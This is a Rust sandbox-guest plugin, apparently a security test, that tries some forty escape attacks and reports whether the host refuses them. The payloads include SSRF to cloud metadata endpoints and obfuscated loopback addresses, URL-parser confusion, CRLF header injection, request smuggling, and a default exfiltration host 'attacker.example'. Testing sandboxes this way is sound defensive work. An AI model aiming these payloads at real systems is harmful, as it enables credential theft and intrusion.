//! Its `test` tries one way out of the sandbox, chosen by the setting `attack`, and shows how far it came.
//!
//! The protocols `header` and `query` place the secret `key` as `X-Api-Key: {key}` and `?api_key={key}`. What came of an
//! attack is in `discovered`: `outcome` is `answered` (with `status` and `body`) or `refused` (with `error`).

use guest_kit::{
    Authentication, Connection, Descriptor, Failure, FailureKind, Field, FieldKind, Guest, Placement, Report,
    descriptor, failure, field, http, nothing, parameter, place, protocol, report, required_secret, setting,
};
use http::Request;

struct Exfil;

impl Guest for Exfil {
    const NAME: &str = "exfil";

    fn describe() -> Descriptor {
        let mut described = descriptor(Self::NAME);
        described.settings.push(Field { required: true, ..field("attack", FieldKind::Text) });
        // Where an attack goes, such as `http://127.0.0.1:9000`.
        described
            .settings
            .push(Field { default: Some("https://attacker.example".into()), ..field("elsewhere", FieldKind::Url) });
        described.protocols.push(protocol("header", vec![required_secret("key")]));
        described.protocols.push(protocol("query", vec![required_secret("key")]));
        described
    }

    fn authenticate(connection: Connection) -> Result<Authentication, Failure> {
        Ok(match connection.protocol.as_str() {
            "header" => place(Placement::Header(parameter("X-Api-Key", "{key}"))),
            "query" => place(Placement::Query(parameter("api_key", "{key}"))),
            "token" => place(Placement::Header(parameter("Authorization", "Bearer {token}"))),
            _ => nothing(),
        })
    }

    fn test(connection: Connection) -> Result<Report, Failure> {
        let attack = setting(&connection, "attack");
        let outcome = run(attack, setting(&connection, "url"), setting(&connection, "elsewhere"))
            .ok_or_else(|| failure(FailureKind::Misconfigured(Some("attack".into())), "there is no such attack"))?;
        let mut shown = report("");
        shown.discovered = match outcome {
            Ok(answer) => {
                shown.message = format!("{attack}: answered {}", answer.status);
                vec![
                    ("outcome".into(), "answered".into()),
                    ("status".into(), answer.status.to_string()),
                    ("body".into(), answer.text()),
                ]
            }
            Err(error) => {
                shown.message = format!("{attack}: refused, {error}");
                vec![("outcome".into(), "refused".into()), ("error".into(), error)]
            }
        };
        Ok(shown)
    }
}

fn run(attack: &str, url: &str, elsewhere: &str) -> Option<Result<http::Response, String>> {
    let get = |url: &str| Request::new("GET", url);
    let home = get(&format!("{url}/"));
    let (_, other) = elsewhere.split_once("://").unwrap_or_default();
    let request = match attack {
        // Where to.
        "other-origin" => get(&format!("{elsewhere}/")),
        "metadata" => get("http://169.254.169.254/latest/meta-data/"),
        "metadata-name" => get("http://metadata.google.internal/computeMetadata/v1/"),
        "loopback" => get("http://127.0.0.1:9/"),
        "decimal-address" => get("http://2852039166/"),
        "octal-address" => get("http://0251.0376.0251.0376/"),
        "short-address" => get("http://127.1:9/"),
        "mapped-address" => get("http://[::ffff:169.254.169.254]/"),
        "other-scheme" => Request { scheme: "gopher".into(), ..home },
        "downgraded-scheme" => Request { scheme: "http".into(), authority: other.into(), ..home },
        "redirect" => return Some(follow(get(&format!("{url}/redirect")))),
        // A URL that two parsers read differently.
        "userinfo" => Request { authority: format!("user:password@{}", home.authority), ..home },
        "userinfo-confusion" => Request { authority: format!("{}@{other}", home.authority), ..home },
        "userinfo-backslash" => Request { authority: format!("{other}\\@{}", home.authority), ..home },
        "authority-with-path" => Request { authority: format!("{other}/{}", home.authority), ..home },
        "authority-with-fragment" => Request { authority: format!("{other}#{}", home.authority), ..home },
        "absolute-form" => Request { path: format!("{elsewhere}/"), ..home },
        "network-path" => Request { path: format!("//{other}/"), ..home },
        "backslash-path" => Request { path: format!("\\\\{other}/"), ..home },
        "userinfo-in-path" => Request { path: format!("@{other}/"), ..home },
        // Headers that are not the guest's to write.
        "authorization" => home.header("Authorization", "Bearer mine"),
        "owned-header" => home.header("x-API-key", "mine"),
        "owned-query" => get(&format!("{url}/?api_key=mine")),
        "owned-query-encoded" => get(&format!("{url}/?api%5Fkey=mine")),
        "host" => home.header("Host", other),
        "connection" => home.header("Connection", "x-api-key, authorization"),
        "upgrade" => home.header("Upgrade", "websocket"),
        "transfer-encoding" => home.header("Transfer-Encoding", "chunked"),
        "proxy-authorization" => home.header("Proxy-Authorization", "Basic bWluZQ=="),
        "forwarded" => home.header("X-Forwarded-For", "127.0.0.1"),
        "expect" => home.header("Expect", "100-continue"),
        "header-injection" => home.header("X-Note", "a\r\nX-Injected: 1"),
        "name-injection" => home.header("X-Note: a\r\nX-Injected", "1"),
        "length-twice" => home.header("Content-Length", "0").header("Content-Length", "5"),
        "short-length" => Request {
            method: "POST".into(),
            body: b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n".to_vec(),
            ..home.header("Content-Length", "5")
        },
        "headers-too-large" => home.header("X-Note", &"a".repeat(70_000)),
        "path-injection" => Request { path: "/ HTTP/1.1\r\nX-Injected: 1\r\n\r\n".into(), ..home },
        // A template that a guest writes into a request is text.
        "template-in-header" => home.header("X-Note", "{key}{token}"),
        "template-in-path" => Request { path: "/%7Bkey%7D?note={key}{token}".into(), ..home },
        "template-in-body" => Request { method: "POST".into(), body: b"{key}{token}".to_vec(), ..home },
        // Methods that echo, or that tunnel.
        "connect" => Request { method: "CONNECT".into(), ..home },
        "trace" => Request { method: "TRACE".into(), ..home },
        "track" => Request { method: "TRACK".into(), ..home },
        "method-injection" => Request { method: "GET / HTTP/1.1\r\nX-Injected: 1\r\n\r\nGET".into(), ..home },
        // Larger than a request may be.
        "body-too-large" => Request { method: "POST".into(), body: vec![b'a'; 9 << 20], ..home },
        _ => return None,
    };
    Some(request.send())
}

/// What a client that follows redirects does: the guest itself goes where the answer points.
fn follow(first: Request) -> Result<http::Response, String> {
    let answer = first.send()?;
    let target = answer.header("location").ok_or("the upstream did not redirect")?;
    Request::new("GET", target).send()
}

guest_kit::guest!(Exfil);
